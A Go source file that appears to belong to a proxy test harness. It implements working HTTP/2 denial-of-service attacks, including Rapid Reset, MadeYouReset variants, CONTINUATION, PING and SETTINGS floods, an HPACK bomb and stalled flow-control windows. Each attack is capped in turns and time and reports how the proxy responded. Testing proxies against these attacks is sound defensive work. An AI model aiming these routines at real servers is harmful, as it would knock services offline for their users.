//go:build linux

package main

import (
	"bufio"
	"bytes"
	"errors"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"golang.org/x/sys/unix"
)

// attack is a way to make a speaker of HTTP/2 work or remember much for little. It is bounded in frames and in time, and goes to loopback only.
type attack struct {
	name  string
	title string
	conns int  // default 1
	deaf  bool // reads nothing
	open  func(a *attacker) error
	step  func(a *attacker, i int) error // writes one turn
	turns int                            // at most
	hold  time.Duration                  // then stay as it is
	ends  bool                           // a proxy that carries it to its end has no limit against it
}

// attackTime bounds an attack, besides its turns and what it holds.
const attackTime = 3 * time.Second

// attacks is the table of them.
func attacks() []*attack {
	return []*attack{
		{name: "rapid-reset", title: "rapid reset (CVE-2023-44487): HEADERS, RST_STREAM", turns: 100_000, ends: true, step: func(a *attacker, _ int) error {
			return errors.Join(a.call(false), a.fr.WriteRSTStream(a.last, http2.ErrCodeCancel))
		}},
		made("window-0", "WINDOW_UPDATE of 0", func(a *attacker) error { return a.raw(frameWindow, 0, a.last, 0, 0, 0, 0) }, false),
		made("overflow", "WINDOW_UPDATE beyond 2^31-1", func(a *attacker) error {
			return errors.Join(a.fr.WriteWindowUpdate(a.last, 1<<31-1), a.fr.WriteWindowUpdate(a.last, 1<<31-1))
		}, false),
		made("half-closed", "DATA after END_STREAM", func(a *attacker) error { return a.fr.WriteData(a.last, false, []byte("x")) }, true),
		made("second-head", "HEADERS after END_STREAM", func(a *attacker) error {
			return a.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: a.last, BlockFragment: a.block(a.head...), EndHeaders: true, EndStream: true})
		}, true),
		made("priority", "PRIORITY of 4 bytes", func(a *attacker) error { return a.raw(2, 0, a.last, 0, 0, 0, 0) }, false),
		made("depends", "PRIORITY that depends on itself", func(a *attacker) error {
			return a.fr.WritePriority(a.last, http2.PriorityParam{StreamDep: a.last})
		}, false),
		{name: "reset-length", title: "MadeYouReset (CVE-2025-8671): a content-length that END_STREAM denies", turns: 50_000, ends: true, step: func(a *attacker, _ int) error {
			return a.call(true, hpack.HeaderField{Name: "content-length", Value: "10"})
		}},
		{name: "continuation", title: "CONTINUATION without end, a field each", turns: 100_000, ends: true, open: func(a *attacker) error {
			a.next()
			return a.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: a.last, BlockFragment: a.block(a.head...)})
		}, step: func(a *attacker, _ int) error {
			return a.fr.WriteContinuation(a.last, false, a.block(hpack.HeaderField{Name: "x-more", Value: strings.Repeat("y", 64), Sensitive: true}))
		}},
		{name: "continuation-empty", title: "CONTINUATION without end, empty", turns: 200_000, ends: true, open: func(a *attacker) error {
			a.next()
			return a.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: a.last, BlockFragment: a.block(a.head...)})
		}, step: func(a *attacker, _ int) error { return a.fr.WriteContinuation(a.last, false, nil) }},
		{name: "settings", title: "SETTINGS whose acknowledgements nobody reads", turns: 500_000, deaf: true, ends: true, step: func(a *attacker, _ int) error {
			return a.fr.WriteSettings(http2.Setting{ID: http2.SettingMaxFrameSize, Val: frameMax})
		}},
		{name: "ping", title: "PING whose answers nobody reads", turns: 500_000, deaf: true, ends: true, step: func(a *attacker, _ int) error {
			return a.fr.WritePing(false, [8]byte{1})
		}},
		{name: "ping-read", title: "PING whose answers are read", turns: 200_000, step: func(a *attacker, _ int) error {
			return a.fr.WritePing(false, [8]byte{1})
		}},
		{name: "data-empty", title: "DATA without a byte", turns: 200_000, ends: true, open: func(a *attacker) error { return a.call(false) }, step: func(a *attacker, _ int) error {
			return a.fr.WriteData(a.last, false, nil)
		}},
		{name: "priorities", title: "PRIORITY of streams that nobody opened", turns: 200_000, ends: true, step: func(a *attacker, i int) error {
			return a.fr.WritePriority(uint32(2*i+1), http2.PriorityParam{Weight: 7})
		}},
		{name: "windows", title: "WINDOW_UPDATE of 1 byte", turns: 200_000, ends: true, step: func(a *attacker, _ int) error {
			return a.fr.WriteWindowUpdate(0, 1)
		}},
		{name: "hpack-bomb", title: "a field of 3,900 bytes, named 12,000 times per head by its index", turns: 50, step: func(a *attacker, i int) error {
			if i == 0 {
				return a.call(true, hpack.HeaderField{Name: "x-bomb", Value: strings.Repeat("b", 3900)})
			}
			return a.repeated(hpack.HeaderField{Name: "x-bomb", Value: strings.Repeat("b", 3900)}, 12_000)
		}},
		{name: "crumbs", title: "12,000 cookies per head", turns: 200, step: func(a *attacker, i int) error {
			if i == 0 {
				return a.call(true, hpack.HeaderField{Name: "cookie", Value: "a=b"})
			}
			return a.repeated(hpack.HeaderField{Name: "cookie", Value: "a=b"}, 12_000)
		}},
		{name: "tiny-windows", title: "100 answers that are taken byte by byte", turns: 50_000, open: func(a *attacker) error {
			err := a.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1})
			for range 100 {
				err = errors.Join(err, a.call(true))
			}
			return err
		}, step: func(a *attacker, i int) error {
			if i%100 == 0 { // what was asked for has come, and the next can be asked for
				if err := errors.Join(a.out.Flush(), a.await(&a.parts, i+100)); err != nil {
					return err
				}
			}
			return a.fr.WriteWindowUpdate(uint32(2*(i%100)+1), 1)
		}},
		{name: "stalled", title: "1,000 answers of 1 MB that nobody takes", conns: 10, turns: 100, hold: 2 * time.Second, open: func(a *attacker) error {
			a.head[2].Value = callPath + "1048576"
			return a.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		}, step: func(a *attacker, _ int) error { return a.call(true) }},
	}
}

// made is a variant of MadeYouReset: a call, and a frame that obliges the peer to reset it while the service still works on it.
func made(name, title string, fault func(a *attacker) error, ended bool) *attack {
	return &attack{name: "reset-" + name, title: "MadeYouReset (CVE-2025-8671): " + title, turns: 50_000, ends: true, step: func(a *attacker, _ int) error {
		return errors.Join(a.call(ended), fault(a))
	}}
}

// attackOrder is what a child is told.
type attackOrder struct {
	Name    string
	Address netip.AddrPort
}

// attackReport is what it saw, of all connections together.
type attackReport struct {
	Turns   int      // that were written
	Open    int      // connections that the proxy left open
	Ended   []string // how they ended; sorted, without doubles
	Resets  int      // RST_STREAM that came
	Answers int      // heads that came
	Parts   int      // DATA that came
	Err     string
}

// attackMain carries out attacks, one after the other.
func attackMain(c *parent) error {
	for {
		var o attackOrder
		if err := c.next(&o); err != nil {
			return err
		}
		i := slices.IndexFunc(attacks(), func(a *attack) bool { return a.name == o.Name })
		if i < 0 {
			return fmt.Errorf("no attack is called %q", o.Name)
		}
		if err := c.say(attacks()[i].run(o.Address, lastWords)); err != nil {
			return err
		}
	}
}

func (k *attack) run(at netip.AddrPort, words time.Duration) (r attackReport) {
	var all []*attacker
	for range max(1, k.conns) {
		a, err := newAttacker(at, k.deaf)
		if err != nil {
			return attackReport{Err: err.Error()}
		}
		all = append(all, a)
	}
	var work sync.WaitGroup
	for _, a := range all {
		work.Go(func() {
			a.carry(k)
			a.finish(words)
		})
	}
	work.Wait()
	for _, a := range all {
		r.Turns += a.turns
		r.Resets += int(a.resets.Load())
		r.Answers += int(a.answers.Load())
		r.Parts += int(a.parts.Load())
		if a.ended == "" {
			r.Open++
			a.ended = strings.TrimSpace(a.away + " left open")
		}
		r.Ended = append(r.Ended, a.ended)
	}
	slices.Sort(r.Ended)
	r.Ended = slices.Compact(r.Ended)
	return r
}

// attacker is one connection of an attack. What its reader sees may be read once it has ended (finish), but for the counts.
type attacker struct {
	conn  *net.TCPConn
	out   *bufio.Writer
	fr    *http2.Framer
	enc   *hpack.Encoder
	text  bytes.Buffer
	head  []hpack.HeaderField
	last  uint32 // stream
	turns int

	reader  chan struct{} // closed when the reader has ended, because the proxy has closed or by finish
	resets  atomic.Int64
	answers atomic.Int64
	parts   atomic.Int64
	away    string // what its GOAWAY says
	ended   string // how the proxy ended the connection; "" if it did not
}

func newAttacker(at netip.AddrPort, deaf bool) (*attacker, error) {
	d := net.Dialer{Timeout: patience}
	if deaf { // or the system would take some megabytes for it
		d.Control = func(_, _ string, c syscall.RawConn) (err error) {
			cerr := c.Control(func(fd uintptr) { err = unix.SetsockoptInt(int(fd), unix.SOL_SOCKET, unix.SO_RCVBUF, 4<<10) })
			return errors.Join(err, cerr)
		}
	}
	conn, err := d.Dial("tcp", at.String())
	if err != nil {
		return nil, err
	}
	a := &attacker{conn: conn.(*net.TCPConn), out: bufio.NewWriterSize(conn, 32<<10), reader: make(chan struct{})}
	a.fr = http2.NewFramer(a.out, nil)
	a.fr.AllowIllegalWrites = true
	a.enc = hpack.NewEncoder(&a.text)
	for _, f := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":path", callPath + "1024"}, {":authority", "backend.bench"}, {"content-type", grpcType}, {"te", "trailers"}} {
		a.head = append(a.head, hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	_ = conn.SetDeadline(time.Now().Add(2 * patience)) // whatever happens, this ends
	_, err = a.out.WriteString(preface)
	err = errors.Join(err, a.fr.WriteSettings(), a.out.Flush())
	if err != nil {
		conn.Close()
		return nil, err
	}
	if !deaf {
		go a.read()
	}
	return a, nil
}

// carry does the attack until the proxy ends it or it is over.
func (a *attacker) carry(k *attack) {
	err := a.attack(k)
	if err == nil && k.hold > 0 {
		select {
		case <-time.After(k.hold):
		case <-a.reader:
		}
	}
	if k.deaf { // now see what it said
		_ = a.conn.SetWriteDeadline(time.Now())
		go a.read()
	}
}

func (a *attacker) attack(k *attack) error {
	end := time.Now().Add(attackTime)
	_ = a.conn.SetWriteDeadline(end)
	if k.open != nil {
		if err := errors.Join(k.open(a), a.out.Flush()); err != nil {
			return err
		}
	}
	for i := range k.turns {
		if err := k.step(a, i); err != nil {
			return err
		}
		a.turns++
		if i%16 != 15 {
			continue
		}
		if err := a.out.Flush(); err != nil {
			return err
		}
		select {
		case <-a.reader:
			return io.EOF
		default:
		}
		if time.Now().After(end) {
			return os.ErrDeadlineExceeded
		}
	}
	return a.out.Flush()
}

// await waits until n have come.
func (a *attacker) await(count *atomic.Int64, n int) error {
	tick := time.NewTicker(time.Millisecond)
	defer tick.Stop()
	limit := time.After(attackTime)
	for count.Load() < int64(n) {
		select {
		case <-tick.C:
		case <-a.reader:
			return io.EOF
		case <-limit:
			return os.ErrDeadlineExceeded
		}
	}
	return nil
}

// lastWords is how long a proxy may take to close: Envoy lets a second pass after its last frame.
const lastWords = 1500 * time.Millisecond

// finish waits for what the proxy still has to say, and closes.
func (a *attacker) finish(words time.Duration) {
	select {
	case <-a.reader:
	case <-time.After(words):
		_ = a.conn.SetReadDeadline(time.Now())
		<-a.reader
	}
	_ = a.conn.SetLinger(0)
	_ = a.conn.Close()
}

// read takes what comes until the connection ends.
func (a *attacker) read() {
	defer close(a.reader)
	fr := http2.NewFramer(io.Discard, bufio.NewReaderSize(a.conn, 32<<10))
	fr.SetMaxReadFrameSize(1 << 20)
	for {
		f, err := fr.ReadFrame()
		switch {
		case errors.Is(err, os.ErrDeadlineExceeded):
			return
		case errors.Is(err, syscall.ECONNRESET):
			a.ended = strings.TrimSpace(a.away + " reset")
			return
		case errors.Is(err, io.EOF), errors.Is(err, io.ErrUnexpectedEOF):
			a.ended = strings.TrimSpace(a.away + " closed")
			return
		case err != nil:
			a.ended = err.Error()
			return
		}
		switch f := f.(type) {
		case *http2.GoAwayFrame:
			a.away = "GOAWAY " + f.ErrCode.String() + ","
		case *http2.RSTStreamFrame:
			a.resets.Add(1)
		case *http2.HeadersFrame:
			a.answers.Add(1)
		case *http2.DataFrame:
			a.parts.Add(1)
		}
	}
}

// next takes a new stream.
func (a *attacker) next() {
	if a.last == 0 {
		a.last = 1
		return
	}
	a.last += 2
}

// call opens a stream with a head that is right but for more.
func (a *attacker) call(end bool, more ...hpack.HeaderField) error {
	a.next()
	return a.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: a.last, BlockFragment: a.block(append(a.head[:len(a.head):len(a.head)], more...)...), EndHeaders: true, EndStream: end})
}

// block encodes fields; valid until the next one.
func (a *attacker) block(list ...hpack.HeaderField) []byte {
	a.text.Reset()
	for _, f := range list {
		_ = a.enc.WriteField(f) // into memory
	}
	return a.text.Bytes()
}

// repeated is a call with a field that is in the table already, n times: a byte or two each.
func (a *attacker) repeated(f hpack.HeaderField, n int) error {
	a.text.Reset()
	for _, h := range a.head {
		_ = a.enc.WriteField(h)
	}
	for range n {
		_ = a.enc.WriteField(f)
	}
	a.next()
	return a.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: a.last, BlockFragment: a.text.Bytes(), EndHeaders: true, EndStream: true})
}

// raw writes a frame that the framer would not.
func (a *attacker) raw(kind, flags byte, stream uint32, body ...byte) error {
	return a.fr.WriteRawFrame(http2.FrameType(kind), http2.Flags(flags), stream, body)
}
